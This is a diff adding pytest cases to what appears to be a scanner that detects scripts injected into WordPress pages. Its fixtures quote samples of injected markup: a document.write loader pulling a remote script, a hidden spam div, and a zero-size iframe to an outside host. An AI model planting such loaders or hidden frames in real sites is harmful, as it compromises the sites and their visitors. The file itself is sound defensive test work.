@@ -1804,6 +1804,31 @@ _INJECTED_KIT = ("<script>var ZQX_Key='a8f3';document.write('<scr'+'ipt src=\"ht
                  ".test/z.js\"></scr'+'ipt>');</script><script>ZQX_Run.go();</script>")
 
 
+@pytest.mark.parametrize("head_top", [
+    BALADA_PLAIN + '<div style="display:none">cheap flights</div>',
+    _INJECTED_PAIR + '<iframe src="https://adsrv-qk7.example/f" width="0" height="0"></iframe>',
+    _INJECTED_KIT + '<div id="zqx_box"></div>',
+], ids=["a loader and a div", "a loader, its call and a frame", "a kit's blocks and its box"])
+def test_a_loader_at_the_heads_top_with_body_markup_after_it_stays_found(
+        head_top: str, audit_listed: AuditListed) -> None:
+    """An element of the body in the blob (a `<div>`, a frame) ends the `<head>` for the
+    parser: the page's `<meta charset>`, title and the rest go to the body. The loader is
+    still before the charset, first in the page: found as at the head's top, and its own
+    box in the blob is no container the page's template holds."""
+    found = [f for f in audit_listed(wp_page(head_top=head_top), URL).findings
+             if f.kind == "appended-script"]
+    assert [f.severity for f in found] == [M], found
+
+
+def test_a_charset_deep_in_the_body_makes_no_heads_top(audit_listed: AuditListed) -> None:
+    """A page whose head holds no charset and whose body declares one far down has no top
+    of head to be before: its head's scripts are where its template put them."""
+    page = wp_page(post='<meta charset="UTF-8">').replace('<meta charset="UTF-8">\n', "", 1)
+    page = page.replace("<head>", '<head><script src="https://cdn.tidewidgets.test/w.js">'
+                        "</script>", 1)
+    assert [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"] == []
+
+
 _WEBFONT = ('<script src="https://ajax.googleapis.com/ajax/libs/webfont/1.6.26/webfont.js">'
             "</script><script>WebFont.load({google: {families: ['Lora']}});</script>")
 
